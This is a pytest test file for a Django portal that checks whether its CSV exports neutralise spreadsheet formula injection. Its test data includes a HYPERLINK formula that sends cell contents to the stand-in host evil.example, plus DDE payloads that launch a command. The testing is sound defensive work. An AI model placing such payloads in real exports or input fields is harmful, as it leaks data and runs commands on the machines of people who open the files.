"""Issue 19 item 6: one CSV cell guard, used by every CSV the portal writes (no spreadsheet formulas)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import translation

from sharik.core.csvsafe import csv_cell

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("+4.5", "+4.5"),
        ("-1e3", "-1e3"),
        ("plain = text", "plain = text"),
        ("مرحبا", "مرحبا"),
        (-7, -7),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_made_text(value, written):
    assert csv_cell(value) == written


# Writers whose CSV is read by a program, never opened as a spreadsheet, and must carry the data as is.
NOT_FOR_SPREADSHEETS = {
    "opendata/services/datastore.py",  # the COPY stream that loads a resource into PostgreSQL
}


def test_no_module_writes_csv_without_the_guard():
    offenders = []
    for path in Path(settings.BASE_DIR).rglob("*.py"):
        parts = path.relative_to(settings.BASE_DIR).parts
        if parts[0] in {".venv", "node_modules", "tests"} or path.name == "csvsafe.py":
            continue
        if "/".join(parts) in NOT_FOR_SPREADSHEETS:
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path))
    assert offenders == []


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_the_survey_export_neutralises_a_respondents_formula(client, open_consultation, citizen, coordinator):
    from consultations.services.instruments import survey_response_submit
    from tests.consultations.instrument_factories import make_survey

    survey, qs = make_survey(open_consultation)
    answers = {
        qs["single"].pk: str(qs["single"].choices.first().pk),
        qs["scale"].pk: "4",
        qs["text"].pk: PAYLOAD,
    }
    survey_response_submit(survey=survey, answers=answers, user=citizen)
    client.force_login(coordinator)
    with translation.override("en"):
        body = client.get(reverse("consultations:survey-export", args=[open_consultation.pk, survey.pk]))
    cells = [cell for row in _rows(body.content.decode()) for cell in row]
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells


def test_the_archive_export_neutralises_a_title(client, entity):
    from datetime import UTC, datetime

    from tests.factories import ConsultationFactory

    ConsultationFactory(
        entity=entity,
        phase="announcement",
        source="pushed",
        external_id="f1",
        title_ar=PAYLOAD,
        opens_at=datetime(2025, 3, 1, tzinfo=UTC),
        closes_at=datetime(2025, 4, 1, tzinfo=UTC),
    )
    response = client.get("/archive/export.csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["title_ar"] for row in rows] == ["'" + PAYLOAD]


def test_the_catalogue_export_neutralises_a_title(client, entity):
    from opendata import services

    services.dataset_create(
        entity=entity, name="formula", title_ar="@SUM(1+1)*cmd|' /C calc'!A0", description_ar="وصف"
    )
    rows = list(csv.DictReader(io.StringIO(client.get("/opendata/datasets.csv").content.decode("utf-8-sig"))))
    assert [row["title_ar"] for row in rows] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_the_risk_register_neutralises_a_cell(client, federal_user):
    import datetime

    from governance.models import Risk
    from governance.services.risks import risk_create

    risk_create(
        risk_ar="+1-1",
        recovery_plan_ar=PAYLOAD,
        owner_ar="الفريق",
        type="operational",
        impact=["cost"],
        importance="low",
        registered_on=datetime.date(2026, 5, 10),
    )
    client.force_login(federal_user)
    response = client.post(
        "/admin/governance/risk/",
        {"action": "export_csv", "_selected_action": list(Risk.objects.values_list("pk", flat=True))},
    )
    row = next(r for r in _rows(response.content.decode()) if r[0] == "'+1-1")
    assert row[3] == "'" + PAYLOAD


def test_the_dashboard_csv_neutralises_an_entity_name(client, db, english):
    from analytics.services.indices import indices_compute
    from tests.factories import ConsultationFactory, EntityFactory

    entity = EntityFactory(name_en="=cmd|' /C calc'!A0")
    ConsultationFactory(entity=entity)
    indices_compute()
    body = client.get(reverse("analytics:dashboard-csv")).content.decode()
    cells = [cell for row in _rows(body) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "=cmd|' /C calc'!A0" not in cells
